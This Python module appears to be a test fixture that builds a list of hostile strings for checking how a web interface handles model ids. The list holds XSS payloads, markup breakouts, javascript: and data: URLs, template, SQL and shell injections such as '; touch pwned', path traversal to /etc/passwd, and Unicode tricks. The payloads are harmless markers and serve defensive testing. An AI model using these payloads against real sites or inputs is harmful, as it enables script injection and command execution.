"""Text that would run, load, submit or break out if it were ever taken for markup, style, code or an address.

Each piece (`§` stands for the script) sets `window.__pwned`, opens a dialog, or asks for an address that holds `pwned`.
"""

from __future__ import annotations

import random
from collections.abc import Sequence

PAYLOAD = "window.__pwned=1"

_MARKUP = """
<script>§</script>
<script src=//pwned.invalid/x.js></script>
<script type=module>§</script>
<script/src=data:text/javascript,§></script>
<scr<script>ipt>§</scr</script>ipt>
<img src=x onerror=§>
<img src=x onerror="§">
<img src=//pwned.invalid/p.png>
<img srcset="//pwned.invalid/p.png 1x">
<image href=x onerror=§>
<picture><source srcset=//pwned.invalid/a><img src=x onerror=§></picture>
<svg onload=§>
<svg><script>§</script></svg>
<svg><animate onbegin=§ attributeName=x dur=1s>
<svg><set onbegin=§ attributeName=x>
<svg><a xlink:href="javascript:§"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>
<math><mtext></p><img src=x onerror=§></mtext></math>
<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>
<iframe src="javascript:§"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe src=//pwned.invalid></iframe>
<object data="javascript:§"></object>
<object data=//pwned.invalid></object>
<embed src="javascript:§">
<embed src=//pwned.invalid>
<link rel=stylesheet href=//pwned.invalid/x.css>
<link rel=import href=//pwned.invalid>
<link rel=preload as=script href=//pwned.invalid/x.js>
<meta http-equiv=refresh content="0;url=//pwned.invalid">
<meta http-equiv=refresh content="0;javascript:§">
<base href=//pwned.invalid/>
<style>@import '//pwned.invalid/x.css';</style>
<style>*{background:url(//pwned.invalid/b)}</style>
<style>.rmm-root{display:none!important}</style>
<div style="background:url(//pwned.invalid/b)">x</div>
<div style="width:expression(§)">x</div>
<div onmouseover=§>x</div>
<div onpointerenter=§ style=position:fixed;inset:0>x</div>
<div contenteditable onfocus=§ autofocus tabindex=1>x</div>
<input autofocus onfocus=§>
<select autofocus onfocus=§></select>
<textarea autofocus onfocus=§></textarea>
<button formaction=javascript:§ autofocus>x</button>
<form action=javascript:§><input type=submit></form>
<form id=body><input name=innerHTML></form>
<details open ontoggle=§>x</details>
<dialog open onclose=§>x</dialog>
<audio src=x onerror=§></audio>
<video src=x onerror=§></video>
<video poster=//pwned.invalid/p></video>
<video><source onerror=§ src=x></video>
<track src=//pwned.invalid/t default>
<marquee onstart=§>x</marquee>
<body onload=§>
<body onpageshow=§>
<html onclick=§>
<frameset onload=§>
<table background=//pwned.invalid/t><tr><td>x</table>
<bgsound src=//pwned.invalid/s>
<keygen autofocus onfocus=§>
<isindex action=javascript:§ type=image>
<a href="javascript:§">x</a>
<a href="data:text/html,<script>§</script>">x</a>
<a href=//pwned.invalid ping=//pwned.invalid/ping>x</a>
<area href=javascript:§>
<template shadowrootmode=open><script>§</script></template>
<slot onslotchange=§></slot>
<noscript><p title="</noscript><img src=x onerror=§>"></noscript>
<xmp><p title="</xmp><img src=x onerror=§>"></xmp>
<title><img title="</title><img src=x onerror=§>"></title>
<textarea><img title="</textarea><img src=x onerror=§>">
<!--><img src=x onerror=§>-->
<!--[if IE]><img src=x onerror=§><![endif]-->
<![CDATA[<img src=x onerror=§>]]>
<?xml version="1.0"?><img src=x onerror=§>
<x onclick=§ id=location>x</x>
<p id=__pwned name=__pwned>x</p>
<img name=getElementById src=x onerror=§>
"""

_BREAKS = """
"><img src=x onerror=§>
'><img src=x onerror=§>
`><img src=x onerror=§>
></td></tr></table><img src=x onerror=§>
--><img src=x onerror=§>
]]><img src=x onerror=§>
</script><script>§</script>
</style><script>§</script>
</title><script>§</script>
</textarea><script>§</script>
</div></div></div><script>§</script>
" onmouseover="§" x="
' onmouseover='§' x='
" autofocus onfocus="§ x="
" style="background:url(//pwned.invalid/b)" x="
;§//
';§//
";§//
\\";§//
\\u003cimg src=x onerror=§\\u003e
%3Cscript%3E§%3C/script%3E
&lt;img src=x onerror=§&gt;
&#60;img src=x onerror=§&#62;
&#x3c;script&#x3e;§&#x3c;/script&#x3e;
+ADw-script+AD4-§+ADw-/script+AD4-
${§}
`${§}`
#{§}
{{§}}
{{constructor.constructor('§')()}}
{%raw%}{{§}}{%endraw%}
<%= § %>
${{<%[%'"}}%\\.
[x](javascript:§)
![x](//pwned.invalid/p.png)
[x]: //pwned.invalid
<javascript:§>
$$\\href{javascript:§}{x}$$
$\\unicode{<img src=x onerror=§>}$
\\(\\require{html}\\class{x}{y}\\)
```{=html}\\n<script>§</script>\\n```
"""

_ADDRESSES = """
javascript:§
JaVaScRiPt:§
java\tscript:§
\x01javascript:§
 javascript:§
javascript://%0a§
javascript&colon;§
vbscript:§
data:text/html,<script>§</script>
data:image/svg+xml,<svg onload=§>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+
blob:http://pwned.invalid/x
file:///etc/passwd#pwned
//pwned.invalid/x
http://pwned.invalid/x
https://user:pwned@pwned.invalid/
http:\\\\pwned.invalid
"""

_NAMES = """
__proto__
constructor
prototype
toString
valueOf
hasOwnProperty
isPrototypeOf
then
length
null
undefined
NaN
true
0
-0
[object Object]
__defineGetter__
location
document.cookie
../../../../etc/passwd
..\\..\\windows\\win.ini
CON
$(touch pwned)
`touch pwned`
; touch pwned
| touch pwned
%00
%n%n%n%n
{0.__class__}
{__import__('os')}
' OR 1=1 --
"; DROP TABLE models; --
=HYPERLINK("//pwned.invalid")
@SUM(1+1)
"""

_INVISIBLE = (
    "\u202egpj.exe",
    "\u2066a\u2069\u202c",
    "a\u200b\u200d\ufeffb",
    "a\x00b",
    "a\x1b[31mred\x1b[0m",
    "a\x07\x08\x7fb",
    "line\u2028separator\u2029end",
    "e" + "\u0301" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20,
    "\ufffe\uffff",
    "\ud7ff\ue000",
    "مرحبا بالعالم",
    "ﷺ" * 50,
    "x" * 5_000,
    "W" * 199,
    "a b" * 1_000,
    "\n" * 100,
    "\t" * 100,
)


def listed() -> list[str]:
    """The fixed list: more than two hundred."""
    lines = [*_MARKUP.strip().split("\n"), *_BREAKS.strip().split("\n")]
    lines += [*_ADDRESSES.strip("\n").split("\n"), *_NAMES.strip().split("\n")]
    spoken = [line.replace("§", PAYLOAD) for line in lines]
    shouted = [text.replace("<", "<\n").replace("=", " = ") for text in spoken if text.startswith("<")]
    return list(dict.fromkeys([*spoken, *shouted, *_INVISIBLE]))


def generated(count: int, seed: int) -> list[str]:
    """Random markup: elements, attributes, quotes and broken ends put together without sense."""
    random_ = random.Random(seed)
    tags = ["img", "svg", "script", "iframe", "a", "style", "x", "math", "object", "IMG", "sCript", "body", "td"]
    names = ["src", "href", "onerror", "onload", "onclick", "style", "srcdoc", "xlink:href", "id", "name", "action"]
    values = [PAYLOAD, f"javascript:{PAYLOAD}", "//pwned.invalid/x", "x", "__proto__", "data:text/html,<b>"]
    ends = [">", "/>", "", " ", "\n", ">x</", "-->", "]]>", "\x00>", "<"]
    quotes = ['"', "'", "", "`", "\\"]

    def element() -> str:
        attributes = ""
        for _ in range(random_.randrange(4)):
            quote = random_.choice(quotes)
            space = random_.choice([" ", "/", "\t", "\n"])
            attributes += f"{space}{random_.choice(names)}={quote}{random_.choice(values)}{quote}"
        return f"<{random_.choice(['', '/', '!', '?'])}{random_.choice(tags)}{attributes}{random_.choice(ends)}"

    return ["".join(element() for _ in range(random_.randint(1, 4))) for _ in range(count)]


def as_model_ids(texts: Sequence[str]) -> list[str]:
    """Those that may be ids: one visible line, not too long."""
    return [
        text for text in texts if len(text) <= 190 and text.isprintable() and text == text.strip() and text[0] != "-"
    ]
